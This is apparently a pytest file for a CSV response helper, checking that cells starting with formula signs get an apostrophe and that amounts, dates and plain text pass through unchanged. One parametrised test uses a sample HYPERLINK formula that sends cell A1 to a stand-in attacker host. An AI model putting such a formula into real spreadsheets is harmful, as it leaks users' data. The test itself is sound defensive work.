"""A CSV answer is safe to open in a spreadsheet: no text in it is a formula, and each amount is a number."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest

from shared.http.responses import csv_response


def read_back(*values: object) -> list[str]:
    text = csv_response([str(number) for number in range(len(values))], [values]).get_data(as_text=True)
    return list(csv.reader(io.StringIO(text, newline="")))[1]


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"])
def test_a_text_that_would_be_a_formula_gets_an_apostrophe(sign: str) -> None:
    assert read_back(f'{sign}HYPERLINK("https://attacker.example/"&A1)') == [
        f'\'{sign}HYPERLINK("https://attacker.example/"&A1)'
    ]


def test_amounts_days_and_other_texts_are_as_they_are() -> None:
    values = ["a=b", "Amazon EC2 - Other", "", None, Decimal("-0.000000001"), -5, True, date(2026, 9, 1)]
    assert read_back(*values) == ["a=b", "Amazon EC2 - Other", "", "", "-0.000000001", "-5", "true", "2026-09-01"]
